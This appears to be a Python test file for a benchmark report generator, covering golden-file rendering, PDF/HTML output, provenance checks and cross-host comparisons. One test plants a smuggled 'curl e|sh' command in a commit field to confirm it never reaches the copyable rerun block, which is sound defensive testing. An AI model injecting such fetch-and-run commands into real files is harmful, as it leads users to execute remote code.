"""Reports: the text rendering against a golden file (a real calibration run), every kind written as PDF and
HTML and read back (pages rendered to images, text found, figures present), provenance refusals, and the
published reference sets. Regenerate the golden file after an intended change, and say why in the commit:
bazel test //analysis/reports:report_test --test_env=TUNELAB_UPDATE_GOLDEN=$PWD --spawn_strategy=local

Fixtures: testdata/sets/calibration_smoke is a real run of //rigs:calibration_matrix --profile smoke on this
machine (copied as stored). The two-set kinds use SYNTHETIC sets made below from one of its results, with
chosen sample values and rewritten host/variant/workload provenance: they test the report's mechanics
(pairing, refusals, rendering), they are not measurements.
"""

import glob
import json
import os
import tempfile
import unittest

import pypdfium2

from analysis import resultsets
from analysis.testing import golden
from analysis.testing.pdffacts import pdf_facts
from analysis.reports import kinds
from analysis.reports import render
from analysis.reports import report
from analysis.reports import story as story_lib
from analysis.testing.testsets import write_set
from results import resultfile

HERE = os.path.dirname(os.path.abspath(__file__))
ANALYSIS = os.path.dirname(HERE)
RESULTS_ROOT = os.path.join(ANALYSIS, "..", "results")
REAL_RUN = os.path.join(ANALYSIS, "testdata", "sets", "calibration_smoke")
FIXED_TIME = "2026-11-21 00:00 UTC"


# A Kunpeng 920 as the doctor describes one (rigs/host/testdata/kunpeng920_2socket).
KUNPENG = {"architecture": "aarch64", "vendor": "HiSilicon", "implementer": "0x48", "part": "0xd01",
           "sockets": 2, "cores_per_socket": 64, "threads_per_core": 1, "logical_cpus": 128, "page_size_kb": 64,
           "max_mhz": 2600.0}


class ReportTest(unittest.TestCase):
    def setUp(self):
        self.tmp = tempfile.TemporaryDirectory()
        self.dir = self.tmp.name

    def tearDown(self):
        self.tmp.cleanup()

    def build(self, kind, sets, **kw):
        return report.build(kind, sets, self.dir, generated_at=FIXED_TIME, command="bazel run //analysis:report -- ...",
                            **kw)

    def test_axis_report_of_a_real_run_matches_the_golden_file(self):
        real = resultsets.load_run(REAL_RUN, name="calibration_smoke")
        text = render.to_text(self.build("axis", [real] + report.reference_sets(RESULTS_ROOT)))
        golden.check(self, text, "analysis/reports/testdata/golden_report_axis.txt")
        self.assertIn("numa=bind_remote needs two NUMA nodes", text)  # the skipped cell and why
        self.assertIn("Appendix: provenance", text)

    def test_every_kind_writes_a_pdf_and_html_with_plots_tables_and_provenance(self):
        stock = [({"variant": "stock", "gc": "g1"}, 1000.0), ({"variant": "stock", "gc": "parallel"}, 1010.0)]
        patched = [({"variant": "patched", "gc": "g1"}, 950.0), ({"variant": "patched", "gc": "parallel"}, 1012.0)]
        cases = {
            "axis": [write_set(os.path.join(self.dir, "a1"), stock + patched)],
            "stock-vs-patched": [write_set(os.path.join(self.dir, "s1"), stock),
                                 write_set(os.path.join(self.dir, "s2"), patched)],
            "dependency-bump": [write_set(os.path.join(self.dir, "b1"), stock + [
                ({"variant": "bump:hadoop-3.5.0", "gc": g}, v * 0.97) for g, v in (("g1", 1000.0), ("parallel", 1010.0))])],
            # The study's 375 s (MR1) and 475 s (MR2), and an MR1 record share sweep the answer must not be about.
            "mr1-vs-mr2": [write_set(os.path.join(self.dir, "m1"), [
                ({"mapreduce": "mr1", "io_sort_record_percent": "default"}, 375.0),
                ({"mapreduce": "mr1", "io_sort_record_percent": "0.59"}, 585.0),
                ({"mapreduce": "mr2", "io_sort_record_percent": "default"}, 475.0)],
                rig="mapreduce", metric="job_duration", unit="s", direction="lower_is_better",
                question="Is MapReduce 2 faster or slower than MapReduce 1?")],
            "memory-locality": [write_set(os.path.join(self.dir, "pre"), stock),
                                write_set(os.path.join(self.dir, "post"), [(p, v * 1.059) for p, v in stock])],
            "cross-host": [write_set(os.path.join(self.dir, "x86"), stock, host="vm-x86", rig="yarn_cps",
                                     metric="container_allocation_rate", unit="containers/s"),
                           write_set(os.path.join(self.dir, "arm"), [(p, v * 0.64) for p, v in stock],
                                     host="kunpeng-7265f", cpu="Kunpeng-920", rig="yarn_cps",
                                     metric="container_allocation_rate", unit="containers/s", host_cpu=KUNPENG,
                                     jdk={"vendor": "Debian", "runtime_version": "17.0.21.1+2-Debian-1deb12u1"},
                                     memory={"hugepage_size_kb": 524288})],
        }
        references = report.reference_sets(RESULTS_ROOT)
        for kind, sets in cases.items():
            with self.subTest(kind=kind):
                out = os.path.join(self.dir, f"{kind}.pdf")
                blocks = self.build(kind, sets + references)
                first_break = next(i for i, b in enumerate(blocks) if isinstance(b, render.Break))
                golden.check(self, render.to_text(blocks[:first_break]), f"analysis/reports/testdata/golden_title_{kind}.txt")
                report.write(blocks, out, out[:-4] + ".html")
                pages, texts, images, ink = pdf_facts(out)
                self.assertGreaterEqual(pages, 3)
                self.assertIn("Answer:", texts[0])
                self.assertIn(kinds.KINDS[kind].title, texts[0])
                everything = "\n".join(texts)
                for heading in ("Cells not measured", "Appendix: provenance", "How to rerun", "% CI", "verdict"):
                    self.assertIn(heading, everything)
                self.assertGreaterEqual(sum(images), 1)  # the figures are in the PDF
                figure_page = next(i for i, n in enumerate(images) if n)
                self.assertGreater(ink[figure_page], 0.01)  # and the page renders with visible content
                with open(out[:-4] + ".html") as f:
                    page = f.read()
                self.assertIn("<img", page)
                self.assertIn("<table>", page)
                if kind == "mr1-vs-mr2":  # page 1 answers faster or slower with MR2 vs MR1, not the sweep
                    answer_text = " ".join(texts[0].split())
                    self.assertIn("Is MapReduce 2 faster or slower than MapReduce 1?", answer_text)
                    self.assertIn("mapreduce=mr2 vs mr1: job_duration +26.7%", answer_text)
                    self.assertIn("slower (worse)", answer_text)
                    self.assertLess(answer_text.index("mapreduce=mr2 vs mr1"), answer_text.index("How to read"))
                if kind == "cross-host":
                    self.assertIn(resultsets.PUBLISHED_LABEL, everything)
                    self.assertIn("Kunpeng-920, HiSilicon (implementer 0x48, part 0xd01)", everything)

    def study_set(self, name):
        return resultsets.resolve(os.path.join(RESULTS_ROOT, "baselines", name), RESULTS_ROOT)

    def test_counts_that_may_be_zero_are_differences_of_medians_with_intervals(self):
        # The committed cluster set (real runs, 5 rounds): stock 3.4.2 advises no DONTNEED (0 in every run),
        # MR1 66-67 a job and the old shuffle 89-91, so a ratio from stock has no meaning; the difference has.
        cluster = self.study_set("mapreduce-cluster-shuffle-20261129-2vcpu")
        blocks = self.build("mr1-vs-mr2", [cluster])
        start = next(i for i, b in enumerate(blocks) if isinstance(b, render.Heading)
                     and b.text.startswith("dontneed_calls ("))
        figure, table = blocks[start + 1], blocks[start + 2]
        self.assertIsInstance(figure, render.Figure)  # the count's bars, then its differences
        self.assertIn("dontneed_calls per cell", figure.caption)
        rows = {(r[0], r[2]): r for r in table.rows}
        self.assertEqual(set(rows), {("mapreduce", "mr2"), ("variant", "patched:mr2-shuffle-dontneed-on-disconnect")})
        mr2 = rows["mapreduce", "mr2"]
        self.assertEqual(mr2[4:6], ["66 (66..67, 5)", "0 (0..0, 5)"])
        self.assertRegex(mr2[6], r"^-66 \(-67..-66\)$")
        old = rows["variant", "patched:mr2-shuffle-dontneed-on-disconnect"]
        self.assertEqual(old[4], "0 (0..0, 5)")
        self.assertRegex(old[6], r"^\+9\d \(\+(89|90)..\+(90|91)\)$")
        # As a verdict the counter's declared direction colours stock's 0 better; as a mechanism it only moved.
        prepared, declared, _, cells, groups, _ = report.comparisons("mr1-vs-mr2", [cluster])
        roles = lambda neutral: {bar[4] for bar in story_lib.count_bars(  # noqa: E731
            cells, "dontneed_calls", declared["dontneed_calls"], prepared, groups, neutral=neutral)}
        self.assertIn("better", roles(False))
        self.assertEqual(roles(True) - {"baseline", "undecided"}, {"moved"})
        # The old shuffle against stock is compared too (the kind's further axis), but the title page answers
        # MR2 vs MR1 with the stock shuffle.
        answer = next(b.text for b in blocks if isinstance(b, render.Para) and b.text.startswith("Answer: "))
        self.assertIn("mapreduce=mr2 vs mr1: job_duration +7", answer)
        self.assertNotIn("variant=patched", answer)
        # As the site reports the set (its variant varies: stock vs patched), the patch attribution leaves the
        # counts from 0 to their table instead of failing on the ratio (the set's page was "no report").
        text = render.to_text(self.build("stock-vs-patched", [cluster]))
        self.assertRegex(text, r"variant +stock +patched:mr2-shuffle-dontneed-on-disconnect .* 0 \(0\.\.0, 5\) +9\d ")

    def locality_set(self, name, version):
        """SYNTHETIC: 5 runs of a pressured-then-migrated Redis cell with the case study's figures as values
        (GET 122,140 before, 129,367 after; local ratio 43 % -> 98 %), plus one bind_local cell; stored as
        the Redis rig writes it (version 2: the result's `split`) or wrote it before (version 1:
        `observations.before_migration`, metric names with units), which readers migrate."""
        folder = os.path.join(self.dir, name)
        metric = "get_requests_per_s" if version == 1 else "get_rate"
        write_set(folder, [({"numa": "pressured_migrated"}, 129367.0), ({"numa": "bind_local"}, 130000.0)],
                  rig="redis", metric=metric, unit="requests/s")
        cells = os.path.join(folder, "cells")
        for name in sorted(os.listdir(cells)):
            with open(os.path.join(cells, name)) as f:
                d = json.load(f)
            d["schema_version"] = version
            if d["cell"]["params"]["numa"] == "pressured_migrated":
                rep = d["cell"]["repetition"]
                ratios = (0.43 + rep * 0.001, 0.98 - rep * 0.001)
                before = 122140.0 * (1 + 0.002 * (rep - 2))
                d["observations"] = {
                    "migration": {"home_node": 0, "before": {"local_ratio": ratios[0], "bytes_per_node": {}},
                                  "after": {"local_ratio": ratios[1], "bytes_per_node": {}},
                                  "moved_home_bytes": 1 << 30}}
                if version == 1:
                    d["observations"]["before_migration"] = {metric: before}
                else:
                    parts = []
                    for value, samples, ratio in (("pre", [dict(d["samples"][0], value=before, t=0.0)], ratios[0]),
                                                  ("post", d["samples"], ratios[1])):
                        samples = samples + [{"metric": "local_page_ratio", "value": round(ratio * 100, 2),
                                              "unit": "%", "t": 0.0}]
                        parts.append({"value": value, "samples": samples, "metrics": resultfile.run_metrics(samples, {
                            metric: {"unit": "requests/s", "direction": "higher_is_better"},
                            "local_page_ratio": {"unit": "%", "direction": "higher_is_better"}})})
                    d["split"] = {"axis": "locality", "parts": parts}
            with open(os.path.join(cells, name), "w") as f:
                json.dump(d, f)
        with open(os.path.join(folder, "manifest.json")) as f:
            manifest = json.load(f)
        manifest["matrix"]["comparison_groups"] = [["numa"]]  # as a real run declares its axes
        with open(os.path.join(folder, "manifest.json"), "w") as f:
            json.dump(manifest, f)
        return resultsets.load_run(folder, name=name)

    def test_memory_locality_compares_the_parts_each_migrated_run_declares(self):
        for version in (2, 1):  # as the rig writes it now, and a stored version 1 set (migrated on reading)
            with self.subTest(version=version):
                sets = [self.locality_set(f"redis-v{version}", version)] + report.reference_sets(RESULTS_ROOT)
                self.assertEqual({d["schema_version"] for d in sets[0].docs}, {resultfile.SCHEMA_VERSION})
                blocks = self.build("memory-locality", sets)
                text = render.to_text(blocks)
                self.assertIn("5 result(s) not measured in parts on locality", text)  # the bind_local runs
                rows = [line for line in text.splitlines() if line.lstrip().startswith("post")]
                self.assertTrue(any("+5.9%" in line for line in rows), rows)  # 122,140 -> 129,367
                self.assertTrue(any("+126.4%" in line for line in rows), rows)  # medians 43.2 -> 97.8 %
                self.assertIn("local_page_ratio", text)
                self.assertIn("get_rate", text)
                self.assertNotIn("get_requests_per_s", text)
                self.assertIn("122,140", text)  # the published figures beside, labelled
                self.assertIn(resultsets.PUBLISHED_LABEL, text)

    def test_cpu_by_thread_group_is_the_median_per_cell_with_a_figure(self):
        def doc(sim, rep, scheduler, pool, status="ok"):
            groups = {"scheduler": scheduler, "simulator_pool": pool, "vm_thread": 0.001, "process": 9.0}
            return {"status": status, "cell": {"id": f"c-{sim}", "params": {"simulator": sim, "jdk": "17"}},
                    "repetition": rep, "observations": {"window": {"cpu_cores_by_thread_group": groups}}}
        docs = [doc("stock", 0, 0.40, 0.50), doc("stock", 1, 0.44, 0.56), doc("stock", 2, 0.42, 0.52),
                doc("lean", 0, 0.55, 0.20), doc("lean", 1, 0.50, 0.10), doc("lean", 2, 0.57, 0.18),
                doc("lean", 3, 9.0, 9.0, status="failed")]  # a failed run is not counted
        blocks = report.thread_cpu_blocks(docs, self.dir)
        self.assertEqual(blocks[0].text, "CPU by thread group")
        self.assertTrue(os.path.getsize(blocks[1].path) > 1000)
        table = blocks[2]
        self.assertEqual(table.columns, ["thread group", "simulator=stock", "simulator=lean"])
        rows = {r[0]: r[1:] for r in table.rows}
        # Medians per cell; groups under 0.005 cores and the process total are left out; the sum is theirs.
        self.assertEqual(rows, {"scheduler": ["0.42", "0.55"], "simulator_pool": ["0.52", "0.18"],
                                "sum": ["0.94", "0.73"]})
        self.assertEqual(report.thread_cpu_blocks([d for d in docs if d["status"] != "ok"], self.dir), [])

    def test_a_profiled_run_gets_a_page_per_comparison_with_its_flame_graph_and_movers(self):
        # A real profiled run (testdata/profiled_run/README.md): the calibration loop with a 20 % injected spin.
        folder = os.path.join(ANALYSIS, "testdata", "profiled_run", "vm-0035969e", "20261128T191712Z-edcd")
        blocks = self.build("axis", [resultsets.load_run(folder, name="profiled")])
        start = next(i for i, b in enumerate(blocks) if getattr(b, "text", "").startswith("Profile (cpu)"))
        heading, figure, table = blocks[start:start + 3]
        self.assertEqual(heading.text, "Profile (cpu): injected_slowdown_pct: 20 vs 0")
        self.assertGreater(os.path.getsize(figure.path), 10000)
        self.assertIn("movers Calibration.spin +21.4 points", figure.caption)
        self.assertEqual(table.rows[0][:4], ["Calibration.spin", "0.0", "21.4", "+21.4"])
        self.assertEqual(table.rows[0][5], "moved")
        self.assertEqual({r[5] for r in table.rows[1:]}, {"noise"})
        # A story (no appendix) draws the movers with their intervals instead: "why" in a figure that fits a page.
        story = self.build("axis", [resultsets.load_run(folder, name="profiled")], appendix=False)
        start = next(i for i, b in enumerate(story) if getattr(b, "text", "").startswith("Profile (cpu)"))
        figure, table = story[start + 1:start + 3]
        self.assertTrue(figure.caption.startswith("The 10 frames that moved most, 3 baseline and 3 candidate runs"),
                        figure.caption)
        self.assertIn("--appendix", figure.caption)
        self.assertEqual(table.rows[0][:4], ["Calibration.spin", "0.0", "21.4", "+21.4"])
        self.assertFalse(any(isinstance(b, render.Figure) and b.caption.startswith("Differential flame graph")
                             for b in story))
        # A run without profiles gets no such page.
        plain = self.build("axis", [resultsets.load_run(REAL_RUN, name="plain")])
        self.assertFalse([b for b in plain if getattr(b, "text", "").startswith("Profile (")])

    def test_the_host_during_each_cell_is_drawn_from_the_results_monitors(self):
        # A real watched run (testdata/monitored_run/README.md): every result holds its launch's monitors.
        folder = os.path.join(ANALYSIS, "testdata", "monitored_run", "vm-0035969e", "20261129T072540Z-7aef")
        monitored = resultsets.load_run(folder, name="monitored")
        blocks = self.build("axis", [monitored])
        start = next(i for i, b in enumerate(blocks) if getattr(b, "text", "") == "The host during each cell")
        cells = {d["cell"]["id"] for d in monitored.docs if d["status"] == "ok"}
        figures = [b for b in blocks[start + 1:] if hasattr(b, "path")][:len(cells)]
        self.assertTrue(all(os.path.getsize(f.path) > 5000 for f in figures))
        self.assertIn("stolen by the hypervisor", figures[0].caption)
        table = next(b for b in blocks[start:] if getattr(b, "columns", None) == ["cell", "runs", "steal max (cores)",
                                                                                  "load max"])
        self.assertEqual(len(table.rows), len(cells))
        loads = [max(v for v in d["monitors"]["series"]["host_load1"] if v is not None)
                 for d in monitored.docs if d["status"] == "ok"]
        self.assertEqual(max(float(r[3]) for r in table.rows), round(max(loads), 2))
        # Results from before monitors were stored get no such section.
        plain = self.build("axis", [resultsets.load_run(REAL_RUN, name="plain")])
        self.assertFalse([b for b in plain if getattr(b, "text", "") == "The host during each cell"])

    def test_latency_tails_come_from_each_cells_merged_runs(self):
        def doc(variant, rep, slow, status="ok"):
            # 1,000 requests a run: 990 at or below 0.2 ms, the rest at `slow` ms.
            dist = {"requests": 1000, "points": [[0.1, 500], [0.2, 990], [slow, 1000]]}
            return {"status": status, "cell": {"id": f"c-{variant}", "params": {"variant": variant,
                                                                               "tail_percentiles": "50+99.5"}},
                    "repetition": rep, "observations": {"latency_distributions": {"get": dist}}}
        docs = [doc("stock", r, slow) for r, slow in enumerate((1.0, 2.0, 3.0))] + \
            [doc("patched", r, 0.4) for r in range(3)] + [doc("patched", 3, 99.0, status="failed")]
        heading, _, table = report.tail_blocks(docs)
        self.assertEqual(heading.text, "Latency tails")
        self.assertEqual(table.columns, ["cell", "test", "runs", "p50", "p99.5"])
        rows = {r[0]: r[1:] for r in table.rows}
        # p99.5 of 3,000 requests: rank 2,985; 2,970 at or below 0.2 ms, then the 30 slowest, 10 each at 1, 2
        # and 3 ms: 2,990 at or below 2 ms. A run alone (5 requests beyond its p99.5) could not say it.
        self.assertEqual(rows["variant=stock"][:3], ["GET", "3", "0.1 (0.1..0.1)"])  # rank 1,500: 1,500 at 0.1
        self.assertTrue(rows["variant=stock"][3].startswith("2 ("), rows)
        self.assertTrue(rows["variant=patched"][3].startswith("0.4 ("), rows)  # the failed run not counted
        self.assertEqual(report.tail_blocks([d for d in docs if d["status"] != "ok"]), [])

    def test_answers_name_the_change_or_say_not_significant(self):
        stock = [({"variant": "stock"}, 1000.0)]
        slower = write_set(os.path.join(self.dir, "slow"), [({"variant": "patched"}, 950.0)])
        same = write_set(os.path.join(self.dir, "same"), [({"variant": "patched"}, 1000.0)])
        base = write_set(os.path.join(self.dir, "base"), stock)
        text = render.to_text(self.build("stock-vs-patched", [base, slower]))
        self.assertRegex(text, r"Answer: variant=patched vs stock: cpu_loop_rate -5\.0% \(98% CI -5\.\d%\.\.-4\.\d%\), "
                               r"worse\.")
        text = render.to_text(self.build("stock-vs-patched", [base, same]))
        self.assertRegex(text, r"Answer: variant=patched vs stock: cpu_loop_rate \+0\.0% \(98% CI [^)]*\), "
                               r"(no change|within ±3%)\.")
        # The axis kind answers with the largest significant change, or says there is none.
        text = render.to_text(self.build("axis", [write_set(os.path.join(self.dir, "both"), stock + [
            ({"variant": "patched"}, 1000.0)])]))
        self.assertIn("No change beyond ±3% in cpu_loop_rate: every interval", text)

    def test_how_to_rerun_holds_no_line_a_stored_set_wrote(self):
        # Issue 39, finding 5: a harness_commit of "x\ncurl e|sh\n" put `curl e|sh` on a line of its own in the
        # block people copy. Every result of the set says the same (a set must agree on its harness).
        folder = os.path.join(self.dir, "hostile")
        write_set(folder, [({"variant": "stock"}, 1000.0), ({"variant": "patched"}, 990.0)], runs=3)
        for path in glob.glob(os.path.join(folder, "cells", "*.json")):
            with open(path) as f:
                doc = json.load(f)
            doc["provenance"]["harness_commit"] = "x\ncurl e|sh\n"
            with open(path, "w") as f:
                json.dump(doc, f)
        lines = report.rerun_commands([resultsets.load_run(folder, name="hostile")])
        self.assertEqual(len(lines), 2, lines)
        self.assertEqual(lines[0], "# hostile (harness not a commit id):")
        self.assertTrue(lines[1].startswith("bazel run "), lines)
        self.assertFalse(any(line.startswith("curl") for text in lines for line in text.splitlines()))

    def test_the_provenance_appendix_names_a_round_that_lost_cpu_to_steal(self):
        # SYNTHETIC noise blocks (as rigs/host/hostnoise.py records them): round 2 lost 8 % of the CPUs to the
        # hypervisor, beyond any band (the floor is 1 %, the default 5 %); the others 0.1 %.
        folder = os.path.join(self.dir, "noisy")
        write_set(folder, [({"variant": "stock"}, 1000.0), ({"variant": "patched"}, 990.0)], runs=3)
        for path in glob.glob(os.path.join(folder, "cells", "*.json")):
            with open(path) as f:
                doc = json.load(f)
            steal = 0.08 if doc["cell"]["repetition"] == 2 else 0.001
            doc["provenance"]["noise"] = {"window_s": 10.0, "steal_fraction": steal, "steal_s": 20 * steal,
                                          "load_average": [1.5, 2.25], "harness_cpu_s": 0.1}
            with open(path, "w") as f:
                json.dump(doc, f)
        text = render.to_text(self.build("axis", [resultsets.load_run(folder, name="noisy")]))
        appendix = text.split("Appendix: provenance")[1]
        row = next(line for line in appendix.splitlines() if line.startswith("host noise"))
        self.assertIn("steal 0.1%..8.0% of CPU time, load 1.50..2.25", row)
        self.assertIn("FLAGGED: round(s) 2 (8.0%) stole more than", row)

    def test_a_sequential_run_says_on_its_first_page_when_each_comparison_stopped(self):
        folder = os.path.join(self.dir, "seq")
        write_set(folder, [({"variant": "stock"}, 1000.0), ({"variant": "patched"}, 900.0)], runs=3)
        with open(os.path.join(folder, "manifest.json")) as f:
            manifest = json.load(f)
        manifest["sequential"] = {"min": 3, "max": 5, "family": 1, "rounds": 3, "comparisons": [
            {"axis": "variant", "baseline_value": "stock", "value": "patched", "baseline": "0" * 12,
             "candidate": "0" * 11 + "1", "metric": "cpu_loop_rate", "min_effect": 0.03,
             "look": {"state": "different", "pairs": 3, "rounds": 3, "ratio": 0.9, "ci_low": 0.88, "ci_high": 0.92,
                      "level": 0.025, "final": True}, "reason": "decided at round 3: different"}]}
        with open(os.path.join(folder, "manifest.json"), "w") as f:
            json.dump(manifest, f)
        text = render.to_text(self.build("axis", [resultsets.load_run(folder, name="seq")]))
        first_page = text.split("How to read")[0]
        self.assertIn("decided at round 3: different", first_page)
        self.assertIn("Sequential repetitions: rounds 3..5", first_page)
        self.assertRegex(first_page, r"variant: patched vs stock.*cpu_loop_rate.*-10\.0%.*-12\.0%\.\.-8\.0%.*3")

    def test_kunpeng_vs_x86_lets_the_architecture_and_its_jdk_builds_differ_and_nothing_else(self):
        debian = {"vendor": "Debian", "runtime_version": "17.0.21.1+2-Debian-1deb12u1"}
        x86 = write_set(os.path.join(self.dir, "x"), [({}, 100.0)], host="h1", reference=1000.0)
        arm = write_set(os.path.join(self.dir, "k"), [({}, 50.0)], host="h2", cpu="Kunpeng-920", host_cpu=KUNPENG,
                        jdk=debian, reference=800.0)
        text = render.to_text(self.build("cross-host", [x86, arm]))
        self.assertIn("Cross-host (x86_64 vs aarch64)", text)
        self.assertRegex(text, r"CPU +AMD EPYC.* +Kunpeng-920, HiSilicon \(implementer 0x48, part 0xd01\)")
        self.assertRegex(text, r"pages .*64 KiB base")
        # 50 / 100 = -50 %; the hosts' CPU loops differ by 800 / 1000: normalized 0.5 / 0.8 = -37.5 %.
        self.assertRegex(text, r"-50\.0% .* -37\.5%")
        self.assertIn("The architectures differ (x86_64 vs aarch64)", text)
        # The same JDK build difference between two hosts of one architecture is refused.
        other_x86 = write_set(os.path.join(self.dir, "x2"), [({}, 50.0)], host="h3", jdk=debian)
        with self.assertRaisesRegex(kinds.ReportError, "jdk build"):
            self.build("cross-host", [x86, other_x86])
        # A workload difference is refused across architectures too.
        other_load = write_set(os.path.join(self.dir, "k2"), [({}, 50.0)], host="h4", host_cpu=KUNPENG, jdk=debian,
                               workload_sha="0" * 64)
        with self.assertRaisesRegex(kinds.ReportError, "workload"):
            self.build("cross-host", [x86, other_load])

    def test_inputs_that_hold_the_host_may_differ_across_hosts_and_nothing_else_generated(self):
        def with_generated(folder, host, hosts_sha, trace_sha):
            write_set(folder, [({}, 100.0)], host=host)
            for cell in glob.glob(os.path.join(folder, "cells", "*.json")):
                with open(cell) as f:
                    doc = json.load(f)
                doc["provenance"]["workload"]["generated"] = {"hosts": hosts_sha * 64, "trace.json": trace_sha * 64}
                doc["provenance"]["workload"]["generated_host_specific"] = ["hosts"]
                with open(cell, "w") as f:
                    json.dump(doc, f)
            return resultsets.load_run(folder, name=os.path.basename(folder))
        a = with_generated(os.path.join(self.dir, "ga"), "h1", "a", "0")
        b = with_generated(os.path.join(self.dir, "gb"), "h2", "b", "0")  # its own hosts file, the same trace
        self.assertIn("Cross-host", render.to_text(self.build("cross-host", [a, b])))
        other_trace = with_generated(os.path.join(self.dir, "gc"), "h3", "b", "1")
        with self.assertRaisesRegex(kinds.ReportError, "generated inputs"):
            self.build("cross-host", [a, other_trace])

    def test_an_emulated_side_says_so_on_every_page(self):
        x86 = write_set(os.path.join(self.dir, "xe"), [({}, 100.0)], host="h1")
        guest = write_set(os.path.join(self.dir, "ge"), [({}, 5.0)], host="h2", cpu="QEMU TCG 'max' CPU",
                          host_cpu=dict(KUNPENG, implementer="0x00", part="0x051", emulated=True,
                                        emulated_evidence="CPU implementer 0x00"), jdk={"vendor": "Debian"})
        blocks = self.build("cross-host", [x86, guest])
        self.assertEqual(blocks[0].banner, "EMULATED HOST: mechanics, not speed")
        pdf = os.path.join(self.dir, "emulated.pdf")
        report.write(blocks, pdf)
        document = pypdfium2.PdfDocument(pdf)
        self.assertGreater(len(document), 1)
        for page in document:
            self.assertIn("EMULATED HOST: mechanics, not speed", page.get_textpage().get_text_range())

    def test_cross_host_refuses_sets_that_differ_in_more_than_the_host(self):
        a = write_set(os.path.join(self.dir, "a"), [({}, 100.0)], host="h1")
        b = write_set(os.path.join(self.dir, "b"), [({}, 100.0)], host="h2", workload_sha="0" * 64)
        with self.assertRaisesRegex(kinds.ReportError, "workload"):
            self.build("cross-host", [a, b])
        text = render.to_text(self.build("cross-host", [a, b], allow_mismatch=True))
        self.assertIn("PROVENANCE MISMATCH", text)
        same_host = write_set(os.path.join(self.dir, "c"), [({}, 100.0)], host="h1")
        with self.assertRaisesRegex(kinds.ReportError, "both sets come from host h1"):
            self.build("cross-host", [a, same_host])

    def test_two_fleet_hosts_on_one_machine_are_compared_and_labelled_as_one_machine(self):
        a = write_set(os.path.join(self.dir, "fa"), [({}, 100.0)], host="h1", fleet_host="node-a")
        b = write_set(os.path.join(self.dir, "fb"), [({}, 110.0)], host="h1", fleet_host="node-b")
        text = render.to_text(self.build("cross-host", [a, b]))
        self.assertIn("ONE PHYSICAL MACHINE: node-a and node-b are two fleet hosts on host h1", text)
        self.assertIn("node-a (baseline)", text)
        self.assertIn("Answer: host=node-b vs node-a: cpu_loop_rate +10.0%", text)
        twice = write_set(os.path.join(self.dir, "fc"), [({}, 100.0)], host="h1", fleet_host="node-a")
        with self.assertRaisesRegex(kinds.ReportError, "both sets come from host h1"):
            self.build("cross-host", [a, twice])

    def test_a_tiny_difference_of_a_deterministic_metric_is_not_called_worse(self):
        # Identical run patterns a 0.0001 % apart: "significant" (p = 0), yet within the metric's minimum effect.
        sets = []
        for name, host, level in (("da", "node-a", 100.0), ("db", "node-b", 99.9999)):
            folder = os.path.join(self.dir, name)
            write_set(folder, [({}, level)], host="h1", fleet_host=host)
            for cell in glob.glob(os.path.join(folder, "cells", "*.json")):  # every sample the same: deterministic
                with open(cell) as f:
                    doc = json.load(f)
                for sample in doc["samples"]:
                    sample["value"] = level
                with open(cell, "w") as f:
                    json.dump(doc, f)
            sets.append(resultsets.load_run(folder, name=name))
        text = render.to_text(self.build("cross-host", sets))
        # calibration's cpu_loop_rate minimum effect (workloads/calibration/gate.toml); before: "worse"
        row = [line for line in text.splitlines() if line.startswith("node-b ")][-1]  # page 1's table, then this
        self.assertTrue(row.endswith("within ±3%"), row)
        self.assertRegex(text, r"Answer: host=node-b vs node-a: cpu_loop_rate -0\.0% \(98% CI [^)]*\), within ±3%\.")

    def test_without_the_appendix_a_report_is_its_story(self):
        real = resultsets.load_run(REAL_RUN, name="calibration_smoke")
        whole = self.build("axis", [real])
        story = self.build("axis", [real], story=story_lib.Story(answer=("cpu_loop_rate",)), appendix=False)
        metrics = lambda blocks: [b.text.split(" (")[0] for b in blocks if isinstance(b, render.Heading)  # noqa: E731
                                  and b.text.split(" (")[0] in real.metrics()]
        self.assertGreater(len(metrics(whole)), 1)
        self.assertEqual(metrics(story), ["cpu_loop_rate"])
        figures = lambda blocks: sum(isinstance(b, render.Figure) for b in blocks)  # noqa: E731
        self.assertLess(figures(story), figures(whole))
        said = next(b.text for b in story if isinstance(b, render.Para) and b.text.startswith("Not drawn here: "))
        self.assertIn("--appendix", said)
        for m in metrics(whole)[1:]:
            self.assertIn(m, said)

    def test_a_scaling_study_answers_with_slopes(self):
        # The committed failover set (real runs, 5 a cell): recovery time against the applications, per store.
        failover = self.study_set("yarn_failover-full-20261127-2vcpu")
        story = story_lib.Story(answer=("recovery_time",), figure="scaling", size_axis="apps",
                             phases=("store_load_time", "app_recovery_time", "node_reregistration_time"))
        blocks = self.build("axis", [failover], story=story, appendix=False)
        answer = next(b.text for b in blocks if isinstance(b, render.Para) and b.text.startswith("Answer: "))
        self.assertRegex(answer, r"^Answer: recovery_time against apps, the slope .* per 1,000 apps: "
                                 r"state_store=filesystem \+\d\.\d+ s per 1,000 \(95% CI \+\d")
        line = next(b.text for b in blocks if isinstance(b, render.Para) and b.text.startswith("In one line: "))
        self.assertRegex(line, r"^In one line: recovery_time per 1,000 apps: filesystem \+[\d.]+; leveldb \+[\d.]+; "
                               r"zookeeper \+[\d.]+ s$")
        captions = [b.caption for b in blocks if isinstance(b, render.Figure)]
        self.assertTrue(captions[0].startswith("Key figure: recovery_time against apps"), captions)
        self.assertTrue(any(c.startswith("What recovery_time is made of per cell") for c in captions), captions)
        with self.assertRaisesRegex(report.ReportError, "state_store is not a size"):
            self.build("axis", [failover], story=story_lib.Story(figure="scaling", size_axis="state_store"))

    def test_reference_sets_are_valid_and_labelled(self):
        refs = report.reference_sets(RESULTS_ROOT)
        self.assertEqual(sorted(r.reference["source"]["case_study"] for r in refs), ["000", "001", "002", "003", "004"])
        failover = [f["value"] for r in refs for f in r.reference["figures"] if f["metric"] == "recovery_time"]
        self.assertEqual(sorted(failover), [18, 70])  # case study 003's failover, before and after
        kunpeng = [f for r in refs for f in r.reference["figures"] if f["label"] == "Kunpeng 920 7265F, before tuning"]
        self.assertEqual(kunpeng[0]["value"], 5100)
        for r in refs:
            self.assertEqual(r.reference["status"], resultsets.PUBLISHED_LABEL)


class MathTextTest(unittest.TestCase):
    def test_a_dollar_in_a_label_is_text_not_math(self):
        # Issue 58, row 14: a parameter value or metric name `$\\undefinedcmd$` failed its set's report.
        from analysis.reports import plots
        hostile = "gc=$\\undefinedcmd$ ^{x}_"
        with tempfile.TemporaryDirectory() as folder:
            path = plots.ci_bars(os.path.join(folder, "bars.png"), hostile, "$\\frac{", [(hostile, 1.0, 0.9, 1.1, "worse")])
            self.assertGreater(os.path.getsize(path), 1000)
